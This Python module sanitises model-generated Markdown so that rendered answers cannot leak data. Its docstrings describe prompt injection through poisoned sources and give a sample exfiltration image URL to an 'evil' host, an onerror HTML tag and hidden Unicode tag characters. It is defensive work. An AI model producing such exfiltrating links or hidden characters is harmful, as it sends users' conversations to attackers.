"""Model output is shown as Markdown in a browser: neutralise what could leak data or run there.

A Markdown image loads its URL as soon as it is rendered, so an answer steered by a poisoned document can send
the conversation to an attacker's server (`![x](https://evil/?q=secret)`), and a link's label can pass an
attacker's page off as the manual. So nothing in an answer loads or links anywhere: images are removed, whatever their
URL (a poisoned source may hold the attacker's URL itself); a link keeps its label, followed by its URL as code when
that URL is in the sources the answer was built from (else the URL, which may carry data out, is dropped); bare URLs
and autolinks become code; raw HTML is escaped.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator

_IMAGE = re.compile(r"!\[([^\]]*)\]\(\s*<?([^)\s>]+)>?(?:\s+\"[^\"]*\")?\s*\)")
_LINK = re.compile(r"(?<!!)\[([^\]]+)\]\(\s*<?([^)\s>]+)>?(?:\s+\"[^\"]*\")?\s*\)")
# The whole line goes, URL or not (CommonMark lets the URL follow on the next line), and never more than the line.
_REFERENCE_DEFINITION = re.compile(r"^[ \t]{0,3}\[[^\]\n]+\]:.*$", re.MULTILINE)
_AUTOLINK = re.compile(r"<((?:https?|ftp|mailto|data|javascript):[^>\s]+)>", re.IGNORECASE)
# Every "<" that could open a tag is escaped, closed or not: a tag may span lines (`<img\nsrc=x onerror=…>`), and
# escaping its bracket is enough, line by line, whatever follows.
_HTML_OPEN = re.compile(r"<(?!(?:https?|ftp|mailto):)(?=\s*/?\s*[a-zA-Z!?])")  # (autolinks left are allowed)
_TRIGGER = re.compile(r"[\[!<:(`]")  # where a construct the sanitiser rewrites can begin
_BARE_URL = re.compile(r"(?<![`(<\w])((?:https?|ftp)://[^\s)>\]`]+)")
_TAG_CHARACTERS = re.compile("[\U000E0000-\U000E007F]")


def strip_invisible(text: str) -> str:
    """Without Unicode tag characters (U+E0000-E007F): invisible in every font, yet read by models, they carry
    hidden instructions in, and hidden data out."""
    return _TAG_CHARACTERS.sub("", text)


def allowed_urls(texts: Iterable[str]) -> set[str]:
    """Every URL that appears in the given source texts."""
    return {match.rstrip(".,;:") for text in texts for match in re.findall(r"(?:https?|ftp)://[^\s)>\]\"']+", text)}


def sanitise_markdown(text: str, allowed: set[str] = frozenset()) -> str:
    def image(match: re.Match) -> str:
        return f"[image removed: {match.group(1) or 'no description'}]"

    def link(match: re.Match) -> str:
        label, url = match.group(1), match.group(2)
        return f"{label} (`{url}`)" if url in allowed else label

    text = _IMAGE.sub(image, strip_invisible(text))  # hidden characters would carry data out unseen
    text = _LINK.sub(link, text)
    text = _REFERENCE_DEFINITION.sub("", text)
    text = _AUTOLINK.sub(lambda m: f"`{m.group(1)}`", text)
    text = _HTML_OPEN.sub("&lt;", text)
    return _BARE_URL.sub(lambda m: f"`{m.group(1)}`", text)


def sanitise_stream(pieces: Iterable[str], allowed: set[str] = frozenset()) -> Iterator[str]:
    """Streamed text, sanitised as it comes, and equal once joined to `sanitise_markdown` of the whole.

    Every construct the sanitiser rewrites (links, images, reference definitions, autolinks, HTML, bare URLs) starts
    with one of `[ ! < : (` or a backtick and never spans lines. So the words of a line before the first such
    character are shown as soon as they are complete (nothing can rewrite them); the rest of that line waits until
    the line ends and is sanitised whole, so a half-written link is never shown."""
    line, sent = "", 0  # the current line, and how much of it is already out (unchanged by any rewrite)
    for piece in pieces:
        line += strip_invisible(piece)
        while "\n" in line:
            complete, line = line.split("\n", 1)
            yield sanitise_markdown(complete, allowed)[sent:] + "\n"
            sent = 0
        trigger = _TRIGGER.search(line, sent)
        safe = line.rfind(" ", sent, trigger.start() if trigger else len(line))
        if safe > sent and line[:safe].strip():
            yield line[sent:safe]
            sent = safe
    if line:
        yield sanitise_markdown(line, allowed)[sent:]
